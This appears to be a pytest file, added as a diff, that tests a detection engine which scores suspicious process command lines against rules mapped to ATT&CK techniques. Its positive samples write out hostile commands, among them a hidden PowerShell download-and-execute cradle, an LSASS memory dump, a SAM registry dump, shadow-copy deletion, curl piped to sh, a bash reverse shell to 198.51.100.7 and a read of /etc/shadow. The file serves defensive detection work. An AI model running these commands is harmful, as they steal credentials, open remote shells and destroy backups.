@@ -1,0 +1,100 @@
+"""Expert rules over command lines: conventions of the table, what speaks and what does not, one line and many alike."""
+
+from __future__ import annotations
+
+import numpy as np
+import pytest
+
+from engine.knowledge import command_rules as module
+from engine.knowledge.command_rules import CommandRules, command_rules, line_values, reasons, rules, spellings
+from engine.knowledge.roles import stem
+from tests.engine.process_samples import make_table
+
+PS = "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe"
+CMD = "c:\\windows\\system32\\cmd.exe"
+SH = "/bin/sh"
+
+SPEAKS = [
+    (PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
+    (CMD, "cmd.exe /c powershell.exe -ep bypass -c iex ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/a'))"),
+    ("c:\\windows\\system32\\reg.exe", "reg save HKLM\\SAM c:\\temp\\s.hiv"),
+    ("c:\\windows\\system32\\rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\temp\\x.dmp full"),
+    ("c:\\windows\\system32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
+    (SH, "sh -c curl -fsSL http://198.51.100.7/x.sh | sh"),
+    ("/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
+    ("/usr/bin/find", "find / -perm -4000 -type f"),
+    ("/usr/bin/cat", "cat /etc/shadow"),
+]
+SILENT = [
+    (PS, "powershell.exe"),
+    ("c:\\windows\\system32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"),
+    ("c:\\program files\\google\\chrome\\application\\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US'),
+    ("/usr/bin/gcc", "gcc -O2 -c -o main.o main.c"),
+    (SH, "sh -c make all"),
+    ("/usr/bin/ls", "ls -la /home/john"),
+    ("/usr/sbin/sshd", "sshd: john [priv]"),
+]
+
+
+@pytest.mark.parametrize(("path", "text"), SPEAKS)
+def test_what_people_would_investigate_has_a_reason(path, text):
+    assert reasons(path, text)
+    assert line_values(*make_table([((path,), -1, text)]))[0] >= 0.5
+
+
+@pytest.mark.parametrize(("path", "text"), SILENT)
+def test_everyday_command_lines_have_none(path, text):
+    assert reasons(path, text) == ()
+    assert line_values(*make_table([((path,), -1, text)]))[0] == 0.0
+
+
+def test_many_lines_are_judged_like_one(monkeypatch):
+    monkeypatch.setattr(module, "CHUNK", 3)
+    rows = [((path,), -1, text) for path, text in SPEAKS + SILENT]
+    together = line_values(*make_table(rows))
+    alone = [line_values(*make_table([row]))[0] for row in rows]
+    assert together == pytest.approx(alone)
+
+
+def test_numbers_and_words_agree():
+    for path, text in SPEAKS + SILENT:
+        speaking = [rule.weight for rule in rules(not path.startswith("/")) if rule.why in reasons(path, text)]
+        assert line_values(*make_table([((path,), -1, text)]))[0] == pytest.approx(sum(speaking))
+
+
+def test_the_chain_has_its_processes_highest_and_nothing_known_is_nan():
+    one, other = (PS,), (CMD,)
+    corpus, table = make_table([(one, -1, "powershell.exe"), (one, -1, "powershell -enc AAAA"), (other, -1, None)])
+    value = command_rules(corpus, table)
+    assert value[0] == pytest.approx(0.8)
+    assert np.isnan(value[1])
+
+
+def test_a_rule_needs_its_program_and_a_whole_phrase():
+    reg = "c:\\windows\\system32\\reg.exe"
+    assert "reads or copies stored credentials (T1003, T1552)" in reasons(reg, "reg save hklm\\sam x")
+    assert "reads or copies stored credentials (T1003, T1552)" not in reasons(reg, "reg save hklm\\software x")
+    assert reasons("c:\\tools\\chat.exe", "chat.exe -enc") == ()  # PowerShell's rule, another program
+
+
+def test_systems_keep_to_their_own_rules():
+    assert reasons("/usr/bin/cat", "cat lsass.dmp -ma lsass") == ()
+    assert not set(rules(True)) & set(rules(False))
+
+
+def test_hostile_text_is_bounded():
+    text = "sh -c " + "curl | sh " * 100_000
+    assert reasons(SH, text)
+    assert reasons(SH, "\x00\x1b[31m\ud800") == ()
+
+
+def test_the_table_keeps_its_conventions():
+    for windows in (True, False):
+        for rule in rules(windows):
+            assert 0 < rule.weight <= 1
+            assert rule.why
+            assert rule.phrases
+            assert all(rule.phrases), f"a phrase without words: {rule.why}"
+            assert all(name == stem(name) and spellings(name) for name in rule.images)
+        numbered = CommandRules.of(rules(windows))
+        assert (numbered.slot >= 0).sum() == numbered.slot.max() + 1, "two words of the rules share a number"
